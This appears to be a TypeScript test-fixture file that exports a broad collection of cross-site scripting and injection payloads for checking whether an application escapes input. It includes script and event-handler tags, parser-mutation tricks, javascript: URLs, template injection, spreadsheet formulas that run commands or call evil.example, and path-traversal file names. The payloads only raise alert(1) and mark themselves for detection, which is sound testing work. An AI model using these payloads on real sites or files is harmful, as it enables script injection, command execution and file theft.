/**
 * Text that becomes code where somebody forgets to escape it. Every payload that makes an element marks
 * it `data-hostile`, and every one that runs opens a dialog, so that both are noticed.
 */

const mark = 'data-hostile';
const code = 'alert(1)';

/** Elements that run something by themselves or when looked at. */
const running = [
  `<script ${mark}>${code}</script>`,
  `<script ${mark} src="data:text/javascript,${code}"></script>`,
  `<script ${mark} src=//evil.example/x.js></script>`,
  `<img ${mark} src=x onerror=${code}>`,
  `<img ${mark} src="x" onerror="${code}">`,
  `<image ${mark} src=x onerror=${code}>`,
  `<svg ${mark} onload=${code}>`,
  `<svg ${mark}><script>${code}</script></svg>`,
  `<svg ${mark}><animate onbegin=${code} attributeName=x dur=1s>`,
  `<svg ${mark}><a xlink:href="javascript:${code}"><text y=20>x</text></a></svg>`,
  `<svg ${mark}><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${code}</script></svg>#x">`,
  `<svg ${mark}><foreignObject><iframe src="javascript:${code}"></iframe></foreignObject></svg>`,
  `<svg ${mark}><style><img src=x onerror=${code}></style></svg>`,
  `<math ${mark}><mi xlink:href="javascript:${code}">x</mi></math>`,
  `<math ${mark}><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  `<body ${mark} onload=${code}>`,
  `<iframe ${mark} src="javascript:${code}"></iframe>`,
  `<iframe ${mark} srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<object ${mark} data="javascript:${code}"></object>`,
  `<embed ${mark} src="javascript:${code}">`,
  `<video ${mark}><source onerror=${code}></video>`,
  `<audio ${mark} src=x onerror=${code}></audio>`,
  `<details ${mark} open ontoggle=${code}><summary>x</summary></details>`,
  `<input ${mark} autofocus onfocus=${code}>`,
  `<select ${mark} autofocus onfocus=${code}></select>`,
  `<textarea ${mark} autofocus onfocus=${code}></textarea>`,
  `<button ${mark} autofocus onfocus=${code}>x</button>`,
  `<marquee ${mark} onstart=${code}>x</marquee>`,
  `<meta ${mark} http-equiv="refresh" content="0;url=javascript:${code}">`,
  `<base ${mark} href="javascript:/a/-${code}//">`,
  `<link ${mark} rel=stylesheet href="data:text/css,*{color:red}">`,
  `<style ${mark}>@import 'javascript:${code}';</style>`,
  `<a ${mark} href="javascript:${code}">x</a>`,
  `<a ${mark} href="java\tscript:${code}">x</a>`,
  `<a ${mark} href="data:text/html,<script>${code}</script>">x</a>`,
  `<form ${mark} action="javascript:${code}"><button>x</button></form>`,
  `<button ${mark} formaction="javascript:${code}" form=x>x</button>`,
  `<isindex ${mark} type=image src=1 onerror=${code}>`,
  `<div ${mark} style="background:url(javascript:${code})">x</div>`,
  `<div ${mark} onmouseover=${code} onpointerrawupdate=${code}>x</div>`,
  `<dialog ${mark} open onclose=${code}>x</dialog>`,
  `<template ${mark}><script>${code}</script></template>`,
  `<portal ${mark} src="javascript:${code}"></portal>`,
  `<x-hostile ${mark} onclick=${code} tabindex=1 autofocus onfocus=${code}>x</x-hostile>`,
];

/** What closes the place a text stands in, to open one where code runs. */
const breakouts = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '--></',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</xmp>',
  '</template>',
  '</iframe>',
  '</option></select>',
  '</svg>',
  ']]>',
  '\\"',
  "\\'",
];

/** What parsers read as raw text in one place and as markup in another. */
const mutating = [
  `<noscript><p title="</noscript><img ${mark} src=x onerror=${code}>">`,
  `<xmp><p title="</xmp><img ${mark} src=x onerror=${code}>">`,
  `<style><!--</style><img ${mark} src=x onerror=${code}>-->`,
  `<title><a title="</title><img ${mark} src=x onerror=${code}>">`,
  `<!--><img ${mark} src=x onerror=${code}>-->`,
  `<!--!><img ${mark} src=x onerror=${code}>-->`,
  `<svg></p><style><a id="</style><img ${mark} src=1 onerror=${code}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img ${mark} src onerror=${code}>`,
  `<math><mtext><table><mglyph><style><!--</style><img ${mark} title="--&gt;&lt;img src=1 onerror=${code}&gt;">`,
  `<select><template><img ${mark} src=x onerror=${code}></template></select>`,
  `<p id="<img ${mark} src=x onerror=${code}>">x</p ${mark}>`,
  `<![CDATA[<img ${mark} src=x onerror=${code}>]]>`,
  `<?xml version="1.0"?><img ${mark} src=x onerror=${code}>`,
  `<<script ${mark}>${code}//<</script>`,
  `<scr<script ${mark}>ipt>${code}</scr</script>ipt>`,
  `<img ${mark} """><script>${code}</script>">`,
  `<a/${mark}/href="javascript:${code}">x`,
  `<img/${mark}/src=x/onerror=${code}>`,
  `<SVG ${mark.toUpperCase()} ONLOAD=${code}>`,
];

/** Addresses, as a link or a picture could have them. */
const addresses = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\u0000script:${code}`,
  `\u0001javascript:${code}`,
  `javascript&colon;${code}`,
  `&#106;avascript:${code}`,
  `vbscript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  `//evil.example/%2e%2e`,
  `/\\evil.example`,
  `https://evil.example/"onmouseover="${code}`,
  `https://eksempel.dk/<img ${mark} src=x onerror=${code}>`,
  `http://user:pass@evil.example`,
  `blob:https://evil.example/x`,
  `file:///etc/passwd`,
];

/** What writes like Markdown or a template. */
const languages = [
  `[x](javascript:${code})`,
  `![x](x"onerror="${code})`,
  `[x]: javascript:${code}`,
  `<javascript:${code}>`,
  `# <img ${mark} src=x onerror=${code}>`,
  '```html\n<script>alert(1)</script>\n```',
  `{{constructor.constructor('${code}')()}}`,
  `{{7*7}}`,
  `\${alert(1)}`,
  `#{${code}}`,
  '<%= alert(1) %>',
  `<? ${code} ?>`,
  `{count, plural, one {# <b>x</b>} other {x}}`,
  `{name}`,
  `'{'<b ${mark}>x</b>'}'`,
  `__proto__`,
  `constructor`,
  `%s%n%x`,
  `{"__html":"<img ${mark} src=x onerror=${code}>"}`,
];

/** What looks like something else. */
const disguised = [
  `＜img ${mark} src=x onerror=${code}＞`,
  `‹script›${code}‹/script›`,
  `\u202e<script ${mark}>${code}</script>`,
  `<\u200bscript ${mark}>${code}</script>`,
  `\ufeff<img ${mark} src=x onerror=${code}>`,
  `\\u003cimg ${mark} src=x onerror=${code}\\u003e`,
  `\\x3cscript\\x3e${code}\\x3c/script\\x3e`,
  `&lt;img ${mark} src=x onerror=${code}&gt;`,
  `&#60;img ${mark} src=x onerror=${code}&#62;`,
  `&#x3c;script&#x3e;${code}&#x3c;/script&#x3e;`,
  `&amp;lt;script&amp;gt;${code}`,
  `%3Cscript%3E${code}%3C/script%3E`,
  `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  `¼script¾${code}¼/script¾`,
  `ı${code} İ ß ﷽ 👩‍👩‍👧 ‏שלום`,
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L',
];

/** First characters a spreadsheet reads as a formula, and names of files. */
const formulasAndNames = [
  `=cmd|'/c calc'!A1`,
  `=HYPERLINK("https://evil.example","x")`,
  `+1+1`,
  `-1-1`,
  `@SUM(1,1)`,
  `\t=1+1`,
  `;=1+1`,
  `";=1+1`,
  `=IMPORTXML("https://evil.example","//a")`,
  `"><img ${mark} src=x onerror=${code}>.png`,
  `<svg ${mark} onload=${code}>.svg`,
  `../../etc/passwd`,
  `CON.pdf`,
  `x.html\u202efdp.exe`,
];

/** Each payload once, whole. */
export const payloads: readonly string[] = [
  ...new Set([
    ...running,
    ...mutating,
    ...addresses,
    ...languages,
    ...disguised,
    ...formulasAndNames,
    ...breakouts.map((out) => `${out}<img ${mark} src=x onerror=${code}>`),
    ...breakouts.map((out) => `${out} onmouseover=${code} ${mark} autofocus onfocus=${code} x=${out.slice(0, 1)}`),
    ...breakouts.map((out) => `${out}<script ${mark}>${code}</script>`),
    ...breakouts.map((out) => `${out}<svg ${mark} onload=${code}>`),
  ]),
].map((payload) => payload.replaceAll('\u0000', ''));

/** All payloads in as many texts as asked for; none is cut. */
export function payloadsIn(texts: number): string[] {
  return Array.from({ length: texts }, (_, text) => payloads.filter((_, index) => index % texts === text).join(' \n'));
}
